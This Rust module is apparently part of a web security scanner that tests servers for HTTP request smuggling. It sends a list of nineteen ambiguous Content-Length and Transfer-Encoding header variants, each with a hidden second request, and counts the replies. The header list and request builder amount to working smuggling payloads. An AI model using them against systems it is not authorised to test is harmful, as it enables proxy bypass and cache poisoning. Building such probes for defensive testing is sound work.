//! One request that is two, depending on who reads it.

use report::{Level, Transcript};

use crate::attack::{Attack, Hole, Tried};
use crate::door::{GuideDoor, ShutBy};
use crate::prober::{Prober, Stop};
use crate::request::Draft;

pub(super) const ATTACK: Attack = Attack {
    name: "framing",
    door: GuideDoor::Firewall,
    shut_by: ShutBy::Code,
    thought: "Can I write a request whose end a proxy and the server see in different places, and hide another one in it?",
    level: Level::Medium,
    references: &["CWE-444", "API8:2023"],
    mend_in_code: "Use a server that refuses ambiguous lengths (RFC 9112 §6.3), and keep it up to date.",
    mend_at_gate: "The gate refuses requests with more than one reading, and writes each anew for the upstream.",
    run: |p, tried| Box::pin(run(p, tried)),
};

/// A head whose end of the body can be read in two ways.
struct Ambiguous {
    /// What it is.
    what: &'static str,
    /// Its header lines; `N` is the length of everything behind the head.
    lines: &'static str,
    /// What stands between the head and the hidden request.
    body: &'static str,
    /// Whether servers may read it so (RFC 9112): then it says something, and is no hole by itself.
    is_allowed: bool,
}

const fn refused(what: &'static str, lines: &'static str, body: &'static str) -> Ambiguous {
    Ambiguous { what, lines, body, is_allowed: false }
}

const fn allowed(what: &'static str, lines: &'static str, body: &'static str) -> Ambiguous {
    Ambiguous { what, lines, body, is_allowed: true }
}

/// The last chunk.
const LAST: &str = "0\r\n\r\n";

const HEADS: [Ambiguous; 19] = [
    refused("two lengths, the first of which counts", "Content-Length: 0\r\nContent-Length: N\r\n", ""),
    refused("two lengths, the last of which counts", "Content-Length: N\r\nContent-Length: 0\r\n", ""),
    refused("a list of two lengths", "Content-Length: 0, N\r\n", ""),
    refused("a length with a sign", "Content-Length: +0\r\n", ""),
    refused("a negative length", "Content-Length: -0\r\n", ""),
    refused("a length in another base", "Content-Length: 0x0\r\n", ""),
    refused(
        "a length, and chunks behind a blank before the colon",
        "Content-Length: N\r\nTransfer-Encoding : chunked\r\n",
        LAST,
    ),
    refused(
        "a length, and chunks behind a vertical tab",
        "Content-Length: N\r\nTransfer-Encoding: \x0bchunked\r\n",
        LAST,
    ),
    refused(
        "a length, and chunks by another name",
        "Content-Length: N\r\nTransfer-Encoding: xchunked\r\n",
        LAST,
    ),
    refused(
        "a length, and chunks in quotes",
        "Content-Length: N\r\nTransfer-Encoding: \"chunked\"\r\n",
        LAST,
    ),
    refused(
        "a length, and chunks that are not last",
        "Content-Length: N\r\nTransfer-Encoding: chunked, identity\r\n",
        LAST,
    ),
    refused(
        "a length, and chunks in a name with an underscore",
        "Content-Length: N\r\nTransfer_Encoding: chunked\r\n",
        LAST,
    ),
    refused(
        "a length, and chunks in a second field beside another",
        "Content-Length: N\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: xchunked\r\n",
        LAST,
    ),
    refused("a size of a chunk in another base", "Transfer-Encoding: chunked\r\n", "0x0\r\n\r\n"),
    refused("a size of a chunk with a sign", "Transfer-Encoding: chunked\r\n", "+0\r\n\r\n"),
    allowed("a length and chunks", "Content-Length: N\r\nTransfer-Encoding: chunked\r\n", LAST),
    allowed("chunks and a length", "Transfer-Encoding: chunked\r\nContent-Length: N\r\n", LAST),
    allowed(
        "a length, and chunks on a folded line",
        "Content-Length: N\r\nTransfer-Encoding:\r\n chunked\r\n",
        LAST,
    ),
    allowed(
        "a length, and chunks behind a bare line feed",
        "Content-Length: N\r\nX-Dw: 1\nTransfer-Encoding: chunked\r\n",
        LAST,
    ),
];

async fn run(p: &Prober<'_>, tried: &mut Tried) -> Result<(), Stop> {
    let reads = p
        .controls()
        .into_iter()
        .filter(|control| p.surface.endpoint(control.endpoint).method == http::Method::GET);
    let path = match reads.min_by_key(|control| control.reply.took) {
        Some(control) => Draft::probe(&control.draft.settled(), p.surface.endpoint(control.endpoint)).target,
        None => "/".to_owned(),
    };
    let path = path.split('?').next().unwrap_or("/").to_owned();
    // Two ordinary requests on one connection: the control. A server that closes after each cannot be tried.
    let (count, ordinary) = send(p, &path, "Content-Length: 0\r\n", "").await?;
    if count != 2 {
        tried.not_tried("the server answers one request on a connection, and closes it");
        return Ok(());
    }
    let mut allowed = None;
    for head in &HEADS {
        let (count, seen) = send(p, &path, head.lines, head.body).await?;
        if count < 2 {
            tried.shut(&seen);
            continue;
        }
        let (again, _) = send(p, &path, head.lines, head.body).await?;
        match (again == 2, head.is_allowed) {
            (false, _) => tried.unknown(format!("{}: it is answered twice now and then", head.what)),
            (true, true) => {
                allowed.get_or_insert((head.what, seen));
            }
            (true, false) => {
                let message = format!("a request with {} is read as two, and both are answered", head.what);
                tried.open(hole(&path, message, ATTACK.level, &ordinary, seen));
                return Ok(());
            }
        }
    }
    if let Some((what, seen)) = allowed {
        let message = format!(
            "the server reads a request with {what} as two and keeps the connection: behind a proxy that reads one, a \
             request can hide in it"
        );
        tried.open(hole(&path, message, Level::Info, &ordinary, seen));
    }
    Ok(())
}

fn hole(path: &str, message: String, level: Level, ordinary: &Transcript, seen: Transcript) -> Hole {
    Hole {
        operation: format!("GET {path}"),
        slot: "head".into(),
        message,
        level: Some(level),
        evidence: vec![ordinary.clone(), seen],
        repeat: String::new(),
    }
}

/// Sends a head with a request hidden behind it. How many answers there are.
async fn send(p: &Prober<'_>, path: &str, lines: &str, body: &str) -> Result<(usize, Transcript), Stop> {
    let bytes = request(&p.client.target(path), p.client.authority(), lines, body);
    let (answer, seen) =
        p.client.send_raw(bytes.as_bytes()).await.map_err(|error| Stop::NoAnswer(error.to_string()))?;
    Ok((answers(&answer), seen))
}

fn request(target: &str, authority: &str, lines: &str, body: &str) -> String {
    let agent = "User-Agent: doorward-attack\r\n";
    let hidden = format!("{body}GET {target} HTTP/1.1\r\nHost: {authority}\r\n{agent}\r\n");
    let lines = lines
        .replace("Length: N", &format!("Length: {}", hidden.len()))
        .replace(", N", &format!(", {}", hidden.len()));
    format!("GET {target} HTTP/1.1\r\nHost: {authority}\r\n{agent}{lines}\r\n{hidden}")
}

/// How many answers stand one behind another. Those that only announce one do not count (RFC 9110 §15.2).
fn answers(text: &str) -> usize {
    let starts = text.match_indices("HTTP/1.1 ").map(|(at, mark)| text.get(at + mark.len()..).unwrap_or(""));
    starts
        .filter(|rest| {
            rest.starts_with(['2', '3', '4', '5']) && rest.chars().take(3).all(|c| c.is_ascii_digit())
        })
        .count()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn answers_are_counted_without_what_only_announces_one() {
        for (text, count) in [
            ("HTTP/1.1 200 OK\r\n\r\n", 1),
            ("HTTP/1.1 200 OK\r\n\r\n{}HTTP/1.1 404 Not Found\r\n\r\n", 2),
            ("HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n\r\n", 1),
            ("HTTP/1.1 nonsense", 0),
            ("", 0),
        ] {
            assert_eq!(answers(text), count, "{text}");
        }
    }

    #[test]
    fn a_length_covers_everything_behind_the_head() {
        let text = request("/a", "h", "Content-Length: 0, N\r\nContent-Length: N\r\n", LAST);
        let behind = text.split_once("\r\n\r\n").unwrap().1;
        assert!(text.contains(&format!("Content-Length: 0, {0}\r\nContent-Length: {0}\r\n", behind.len())));
        assert!(behind.starts_with("0\r\n\r\nGET /a "));
    }
}
